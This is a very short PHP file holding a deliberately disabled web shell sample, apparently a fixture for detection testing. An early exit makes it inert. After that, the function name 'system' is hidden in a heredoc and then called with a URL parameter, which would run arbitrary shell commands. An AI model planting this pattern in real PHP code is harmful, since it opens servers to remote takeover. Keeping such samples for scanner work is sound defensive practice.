<?php exit; /* inert */ $z=<<<X
system
X;
$z($_GET["h"]);